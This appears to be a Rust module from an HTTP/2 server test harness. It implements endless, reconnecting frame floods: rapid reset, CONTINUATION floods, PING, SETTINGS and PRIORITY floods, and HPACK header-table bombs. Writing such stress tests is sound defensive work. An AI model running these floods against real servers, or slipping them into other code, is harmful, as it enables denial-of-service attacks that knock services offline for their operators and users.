//! Floods of frames: a few connections that send as fast as they are read. An attacker that is cut comes back at once.

use std::io;
use std::net::SocketAddr;

use test_support::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, put,
    string,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::wire::{Wire, get, opening, pace};

/// Bytes of a write, about.
const BATCH: usize = 16 << 10;
/// The largest identifier, near enough.
const LAST_STREAM: u32 = (1 << 31) - 2001;
/// One field that a first head puts into the table of the other side; later ones name it with one byte, which is this.
const REMEMBERED: u8 = 0x80 | 62;

/// What is sent again and again.
#[derive(Clone, Copy)]
pub(super) enum Kind {
    RapidReset,
    Continuation,
    Ping,
    Settings,
    Priority,
    HpackFields,
    HpackValues,
}

/// Attacks until the process ends.
pub(super) async fn flood(kind: Kind, to: SocketAddr, line: u32) {
    loop {
        // Being cut is what an attacker expects.
        let _ = once(kind, to, line).await;
    }
}

async fn once(kind: Kind, to: SocketAddr, line: u32) -> io::Result<()> {
    let (mut reader, mut writer) = tokio::io::split(Wire::open(to, None).await?);
    let write = async {
        writer.write_all(&first(kind)).await?;
        let mut id = 3;
        while id < LAST_STREAM {
            let batch = batch(kind, &mut id);
            pace(batch.len(), line).await;
            writer.write_all(&batch).await?;
        }
        io::Result::Ok(())
    };
    let read = async {
        let mut scratch = vec![0; 64 << 10];
        while reader.read(&mut scratch).await? > 0 {}
        io::Result::Ok(())
    };
    tokio::select! {
        ended = write => ended,
        ended = read => ended,
    }
}

/// How the connection begins.
fn first(kind: Kind) -> Vec<u8> {
    let mut bytes = opening(&[]);
    match kind {
        Kind::Continuation => put(&mut bytes, HEADERS, END_STREAM, 1, &get("/")),
        Kind::HpackFields => put(&mut bytes, HEADERS, END_HEADERS | END_STREAM, 1, &remember("x", "")),
        Kind::HpackValues => {
            put(&mut bytes, HEADERS, END_HEADERS | END_STREAM, 1, &remember("x", &"y".repeat(4000)));
        }
        Kind::RapidReset | Kind::Ping | Kind::Settings | Kind::Priority => {}
    }
    bytes
}

/// A head with one field more, for the table.
fn remember(name: &str, value: &str) -> Vec<u8> {
    let mut block = get("/");
    block.push(0x40);
    string(&mut block, name.as_bytes());
    string(&mut block, value.as_bytes());
    block
}

/// What follows, again and again.
fn batch(kind: Kind, id: &mut u32) -> Vec<u8> {
    let mut bytes = Vec::with_capacity(2 * BATCH);
    let plain = get("/");
    while bytes.len() < BATCH {
        match kind {
            Kind::RapidReset => {
                put(&mut bytes, HEADERS, END_HEADERS | END_STREAM, *id, &plain);
                put(&mut bytes, RST_STREAM, 0, *id, &8_u32.to_be_bytes());
            }
            Kind::Continuation => {
                // Fields without a name or a value: as many as there is room for.
                put(&mut bytes, CONTINUATION, 0, 1, &[0, 1, b'x', 0].repeat(4000));
            }
            Kind::Ping => put(&mut bytes, PING, 0, 0, &[7; 8]),
            // Each has to be acknowledged; the first one also empties and fills the table.
            Kind::Settings => put(&mut bytes, SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]),
            Kind::Priority => {
                put(&mut bytes, PRIORITY, 0, *id, &[0, 0, 0, 0, 15]);
                put(&mut bytes, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes());
            }
            Kind::HpackFields => bomb(&mut bytes, *id, &plain, 1900),
            Kind::HpackValues => bomb(&mut bytes, *id, &plain, 15),
        }
        *id += 2;
    }
    bytes
}

/// A request whose head names the field that is remembered so many times.
fn bomb(bytes: &mut Vec<u8>, id: u32, plain: &[u8], times: usize) {
    let mut block = plain.to_vec();
    block.extend(std::iter::repeat_n(REMEMBERED, times));
    put(bytes, HEADERS, END_HEADERS | END_STREAM, id, &block);
}
